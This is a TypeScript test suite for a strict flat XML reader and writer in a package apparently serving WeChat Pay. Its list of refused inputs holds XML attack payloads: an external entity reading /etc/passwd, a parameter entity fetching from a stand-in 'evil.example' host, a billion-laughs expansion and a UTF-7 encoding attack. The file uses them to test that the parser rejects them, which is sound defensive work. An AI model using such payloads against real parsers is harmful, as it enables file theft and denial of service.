import fc from 'fast-check'
import { XMLParser, XMLValidator } from 'fast-xml-parser'
import { FlatXmlError, readFlatXml, writeFlatXml } from 'wxpay-core'

function read(xml: string | Uint8Array, root?: 'xml' | 'root'): Readonly<Record<string, string>> {
  return Object.fromEntries(readFlatXml(typeof xml === 'string' ? Buffer.from(xml) : xml, root))
}

describe('values are read exactly as written', () => {
  test.each([
    ['digits stay text', '<xml><total_fee>0100</total_fee></xml>', '0100'],
    [
      '28 digits stay whole',
      '<xml><id>1004400740201409030005092168</id></xml>',
      '1004400740201409030005092168',
    ],
    ['blanks are kept', '<xml><a> x\n</a></xml>', ' x\n'],
    ['empty text', '<xml><a></a></xml>', ''],
    ['empty CDATA', '<xml><a><![CDATA[]]></a></xml>', ''],
    ['an element closed in itself', '<xml><a/></xml>', ''],
    ['CDATA hides markup', '<xml><a><![CDATA[<b>&amp;</b>]]]]></a></xml>', '<b>&amp;</b>]]'],
    ['the five entities', '<xml><a>&lt;&gt;&amp;&quot;&apos;</a></xml>', '<>&"\''],
    ['an entity is opened once', '<xml><a>&amp;lt;</a></xml>', '&lt;'],
    ['numeric references', '<xml><a>&#25903;&#x4ED8;&#x1F600;&#13;</a></xml>', '支付😀\r'],
    ['a declaration', '<?xml version="1.0" encoding="UTF-8"?>\n<xml><a>支付</a></xml>', '支付'],
    ['blanks around', '\n <xml>\t<a>x</a>\r\n</xml>\n', 'x'],
  ])('%s', (_, xml, value) => {
    expect(Object.values(read(xml))).toEqual([value])
  })

  test('an empty document has no members', () => {
    expect(read('<xml></xml>')).toEqual({})
  })

  test('<root> is read when asked for, and only then', () => {
    expect(read('<root><a>x</a></root>', 'root')).toEqual({ a: 'x' })
    expect(() => read('<root><a>x</a></root>')).toThrow('no <xml> at the start')
    expect(() => read('<xml><a>x</a></xml>', 'root')).toThrow('no <root> at the start')
  })

  test('names of Object.prototype are names like others', () => {
    const members = readFlatXml(
      Buffer.from('<xml><__proto__>1</__proto__><constructor>2</constructor></xml>'),
    )
    expect([...members]).toEqual([
      ['__proto__', '1'],
      ['constructor', '2'],
    ])
    expect(Object.hasOwn(Object.prototype, '1')).toBe(false)
    expect(members.get('toString')).toBeUndefined()
  })

  test('a view into a larger buffer is read within its bounds', () => {
    const large = Buffer.from('junk<xml><a>x</a></xml>junk')
    expect(read(new Uint8Array(large.buffer, large.byteOffset + 4, 19))).toEqual({ a: 'x' })
  })
})

const hostile: readonly (readonly [string, string])[] = [
  ['nothing', ''],
  ['blanks', '  \n'],
  ['text', 'SUCCESS'],
  ['JSON', '{"xml":1}'],
  ['HTML', '<html><body>502 Bad Gateway</body></html>'],
  ['a byte order mark', '\ufeff<xml><a>x</a></xml>'],
  ['a document type', '<!DOCTYPE xml><xml><a>x</a></xml>'],
  ['an external entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><a>&e;</a></xml>'],
  [
    'a parameter entity',
    '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x"> %e;]><xml><a>x</a></xml>',
  ],
  [
    'a billion laughs',
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><xml><a>&b;&b;&b;&b;</a></xml>',
  ],
  ['two document types', '<!DOCTYPE a><!DOCTYPE b><xml><a>x</a></xml>'],
  ['a document type after the root', '<xml><a>x</a></xml><!DOCTYPE a>'],
  ['an unknown entity', '<xml><a>&nbsp;</a></xml>'],
  ['an entity named like a method', '<xml><a>&toString;</a></xml>'],
  ['a bare ampersand', '<xml><a>a & b</a></xml>'],
  ['an ampersand at the end', '<xml><a>a&</a></xml>'],
  ['an endless reference', `<xml><a>&#${'0'.repeat(1000)}65;</a></xml>`],
  ['a reference past Unicode', '<xml><a>&#9999999;</a></xml>'],
  ['a reference past Unicode in hex', '<xml><a>&#x110000;</a></xml>'],
  ['a reference to NUL', '<xml><a>&#0;</a></xml>'],
  ['a reference to a control character', '<xml><a>&#x1B;</a></xml>'],
  ['a reference to half a character', '<xml><a>&#xD800;</a></xml>'],
  ['a reference to a non-character', '<xml><a>&#xFFFE;</a></xml>'],
  ['a negative reference', '<xml><a>&#-1;</a></xml>'],
  ['an empty reference', '<xml><a>&;</a></xml>'],
  ['a comment', '<xml><!-- x --><a>x</a></xml>'],
  ['a comment inside an amount', '<xml><total_fee>1<!-- -->00</total_fee></xml>'],
  ['a comment before the root', '<!-- x --><xml><a>x</a></xml>'],
  ['a comment after the root', '<xml><a>x</a></xml><!-- x -->'],
  ['a processing instruction', '<xml><?php echo 1 ?><a>x</a></xml>'],
  ['a stylesheet', '<?xml-stylesheet href="x"?><xml><a>x</a></xml>'],
  ['a declaration behind a blank', ' <?xml version="1.0"?><xml><a>x</a></xml>'],
  ['two declarations', '<?xml version="1.0"?><?xml version="1.0"?><xml><a>x</a></xml>'],
  ['another XML version', '<?xml version="1.1"?><xml><a>x</a></xml>'],
  ['another encoding', '<?xml version="1.0" encoding="GBK"?><xml><a>x</a></xml>'],
  ['an encoding attack', '<?xml version="1.0" encoding="UTF-7"?><xml><a>+ADw-</a></xml>'],
  ['an attribute', '<xml><a b="c">x</a></xml>'],
  ['an attribute of the root', '<xml a="b"><a>x</a></xml>'],
  ['a blank in a tag', '<xml><a >x</a></xml>'],
  ['a blank in a closing tag', '<xml><a>x</a ></xml>'],
  ['a name space', '<xml><x:a>x</x:a></xml>'],
  ['a name starting with a digit', '<xml><1>x</1></xml>'],
  ['a name that is not ASCII', '<xml><金额>1</金额></xml>'],
  ['a name of 65 characters', `<xml><${'a'.repeat(65)}>x</${'a'.repeat(65)}></xml>`],
  ['an empty name', '<xml><>x</></xml>'],
  ['nesting', '<xml><a><b>x</b></a></xml>'],
  ['the same element twice', '<xml><total_fee>1</total_fee><total_fee>100</total_fee></xml>'],
  ['the same element twice, once empty', '<xml><sign/><sign>x</sign></xml>'],
  ['two CDATA sections', '<xml><a><![CDATA[1]]><![CDATA[00]]></a></xml>'],
  ['text before CDATA', '<xml><a>1<![CDATA[00]]></a></xml>'],
  ['text after CDATA', '<xml><a><![CDATA[1]]>00</a></xml>'],
  ['a blank after CDATA', '<xml><a><![CDATA[1]]> </a></xml>'],
  ['CDATA end in text', '<xml><a>x]]></a></xml>'],
  ['CDATA between elements', '<xml><![CDATA[x]]><a>x</a></xml>'],
  ['lower-case CDATA', '<xml><a><![cdata[x]]></a></xml>'],
  ['text between elements', '<xml><a>x</a>y<b>z</b></xml>'],
  ['two roots', '<xml><a>x</a></xml><xml><a>y</a></xml>'],
  ['text after the root', '<xml><a>x</a></xml>y'],
  ['NUL after the root', '<xml><a>x</a></xml>\u0000'],
  ['NUL in a value', '<xml><a>x\u0000y</a></xml>'],
  ['a control character in CDATA', '<xml><a><![CDATA[\u001b[31m]]></a></xml>'],
  ['a non-character', '<xml><a>\uffff</a></xml>'],
  ['the wrong closing tag', '<xml><a>x</b></xml>'],
  ['a closing tag of another case', '<xml><a>x</A></xml>'],
  ['an upper-case root', '<XML><a>x</a></XML>'],
  ['more than 64 KB', `<xml><a>${'x'.repeat(65_536)}</a></xml>`],
  ['deep nesting', `<xml>${'<a>'.repeat(10_000)}`],
]

describe('documents outside the dialect are refused', () => {
  test.each(hostile)('%s', (_, xml) => {
    expect(() => read(xml)).toThrow(FlatXmlError)
  })

  test.each([
    ['a lone continuation byte', [0x80]],
    ['an overlong slash', [0xc0, 0xaf]],
    ['a surrogate', [0xed, 0xa0, 0x80]],
    ['half a character', [0xe6, 0x94]],
    ['Latin-1', [0xe9]],
  ])('%s', (_, bytes) => {
    const xml = Buffer.concat([Buffer.from('<xml><a>'), Buffer.from(bytes), Buffer.from('</a></xml>')])
    expect(() => read(xml)).toThrow('not UTF-8')
  })

  test('UTF-16', () => {
    expect(() => read(Buffer.from('\ufeff<xml><a>x</a></xml>', 'utf16le'))).toThrow(FlatXmlError)
  })

  test('every truncation of a genuine document', () => {
    const whole = '<?xml version="1.0"?><xml><a><![CDATA[x]]></a><b>&amp;y</b><c/></xml>'
    expect(read(whole)).toEqual({ a: 'x', b: '&y', c: '' })
    for (let length = 0; length < whole.length; length += 1) {
      expect(() => read(whole.slice(0, length))).toThrow(FlatXmlError)
    }
  })

  test('the refusal never repeats the document', () => {
    for (const [, xml] of hostile) {
      try {
        read(xml)
      } catch (error) {
        expect(String(error)).not.toContain('passwd')
        expect(String(error).length).toBeLessThan(80)
      }
    }
  })
})

// What XML can hold at all; a carriage return only survives as a reference, which the writer takes care of.
const xmlText = fc
  .string({ unit: 'binary' })
  // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what is left out
  .map((text) => text.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, ''))
const nasty = fc.constantFrom(']]>', '<![CDATA[', '&amp;', '</xml>', '\r\n', '<!--', '&', '😀', ' ', '支付')
const anyValue = fc.oneof(
  xmlText,
  fc.array(fc.oneof(nasty, xmlText), { maxLength: 6 }).map((parts) => parts.join('')),
)
const anyName = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,20}$/)
const anyMembers = fc.dictionary(anyName, anyValue, { maxKeys: 12 })

const oracle = new XMLParser({
  parseTagValue: false,
  trimValues: false,
  ignoreAttributes: true,
  htmlEntities: false,
})

describe('properties', () => {
  test('what is written is read back, any text, any order', () => {
    fc.assert(
      fc.property(anyMembers, (members) => {
        expect(read(writeFlatXml(members))).toEqual(members)
      }),
    )
  })

  test('another reader understands what we write', () => {
    fc.assert(
      fc.property(anyName, anyValue, (name, value) => {
        fc.pre(
          !['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty'].includes(name),
        )
        const xml = writeFlatXml({ [name]: value })
        expect(XMLValidator.validate(xml)).toBe(true)
        // The oracle leaves numeric references alone without htmlEntities; only a carriage return is written as one.
        const seen: unknown = oracle.parse(xml).xml[name]
        expect(String(seen).replaceAll('&#13;', '\r')).toBe(value)
      }),
    )
  })

  test('whatever we accept, the other reader reads the same', () => {
    const piece = fc.constantFrom(
      '<xml>',
      '</xml>',
      '<a>',
      '</a>',
      '<b>',
      '</b>',
      '<a/>',
      'x',
      '1',
      ' ',
      '\n',
      '&amp;',
      '&lt;',
      '<![CDATA[',
      ']]>',
      '<!--',
      '-->',
      '&',
      '<?xml version="1.0"?>',
      '<!DOCTYPE a>',
      ' c="d"',
      '支',
    )
    const random = fc.array(piece, { maxLength: 12 }).map((parts) => parts.join(''))
    const framed = fc.array(piece, { maxLength: 8 }).map((parts) => `<xml><a>${parts.join('')}</a></xml>`)
    let accepted = 0
    fc.assert(
      fc.property(fc.oneof(random, framed), (xml) => {
        let ours: Readonly<Record<string, string>>
        try {
          ours = read(xml)
        } catch (error) {
          expect(error).toBeInstanceOf(FlatXmlError)
          return
        }
        accepted += 1
        const theirs: unknown = oracle.parse(xml).xml
        const { '#text': _, ...members }: Record<string, unknown> =
          typeof theirs === 'object' && theirs !== null ? { ...theirs } : {}
        expect(ours).toEqual(members)
      }),
      { numRuns: 3_000, seed: 20_261_123 },
    )
    expect(accepted).toBeGreaterThan(100)
  })

  test('random bytes never throw anything but a FlatXmlError', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (bytes) => {
        try {
          readFlatXml(bytes)
        } catch (error) {
          expect(error).toBeInstanceOf(FlatXmlError)
        }
      }),
    )
  })
})

describe('the writer', () => {
  test('uses CDATA, and escaped text where CDATA would break', () => {
    expect(writeFlatXml({ a: '<b>&', c: 1 })).toBe('<xml><a><![CDATA[<b>&]]></a><c><![CDATA[1]]></c></xml>')
    expect(writeFlatXml({ a: 'x]]>&\r<' })).toBe('<xml><a>x]]&gt;&amp;&#13;&lt;</a></xml>')
  })

  test.each([
    ['NUL', 'x\u0000'],
    ['an escape character', '\u001b'],
    ['half a character', '\ud83d'],
    ['a non-character', '\ufffe'],
  ])('refuses %s', (_, value) => {
    expect(() => writeFlatXml({ a: value })).toThrow(FlatXmlError)
  })

  test.each(['', 'a b', 'a>', '1a', '金额', 'x:y'])('refuses the name "%s"', (name) => {
    expect(() => writeFlatXml({ [name]: 'x' })).toThrow(FlatXmlError)
  })
})
